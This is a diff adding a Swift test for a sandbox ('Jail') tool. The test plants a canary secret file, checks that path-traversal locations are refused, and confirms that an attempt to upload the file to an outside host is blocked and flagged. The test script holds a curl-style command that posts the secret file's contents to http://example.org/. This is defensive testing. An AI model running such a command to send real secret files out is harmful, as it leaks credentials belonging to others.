@@ -86,4 +86,29 @@ import Testing
         running.signal(SIGTERM)
         try running.wait()
     }
+
+    @Test func `one in a workspace is known to the jail that sends it`() throws {
+        let jail = try Jail(.user, Self.profile(""))
+        let workspace = try Scratch.directory("workspace", mode: 0o700)
+        func canary(_ words: String...) throws -> Finished {
+            try jail.start(words: ["secret", "canary"] + words).wait(20)
+        }
+        let planted = try canary("plant", "slack", "--in", workspace, "--path", "conf/slack.json")
+        #expect(planted.status == 0 && planted.text.hasPrefix("planted: slack-"), "\(planted.errors)")
+        // Over nothing, and nowhere else.
+        for words in [["--path", "conf/slack.json"], ["--path", "../x"], ["--path", "/x"], ["--path", "a//b"]] {
+            let refused = try jail.start(words: ["secret", "canary", "plant", "slack", "--in", workspace] + words).wait(
+                20)
+            #expect(refused.status != 0 && refused.text.isEmpty, "\(words)")
+        }
+        let listed = try canary("list")
+        #expect(listed.lines.count == 2 && listed.text.contains("\(workspace)/conf/slack.json"), "\(listed.text)")
+        let finished = try jail.script(
+            "\(Self.ask) --data-binary @/workspace/conf/slack.json http://example.org/", ["--workspace", workspace])
+        #expect(finished.lines == ["403"], "\(finished.errors)")
+        #expect(finished.errors.contains("the canary 'slack-"), "\(finished.errors)")
+        let id = String(planted.lines[0].split(separator: " ")[1])
+        #expect(try canary("remove", id).status == 0)
+        #expect(try canary("list").text == "there are no canaries\n")
+    }
 }
